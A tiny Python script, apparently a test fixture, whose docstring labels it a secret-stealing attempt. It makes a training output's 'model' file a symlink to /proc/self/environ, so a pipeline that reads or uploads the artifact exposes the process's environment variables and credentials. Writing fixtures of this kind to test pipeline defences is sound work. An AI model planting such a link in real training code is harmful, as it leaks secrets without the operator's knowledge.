"""A trainer that links its "model" to the process's environment (a secret-stealing attempt)."""
import os, sys
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
os.symlink("/proc/self/environ", os.path.join(out, "model"))
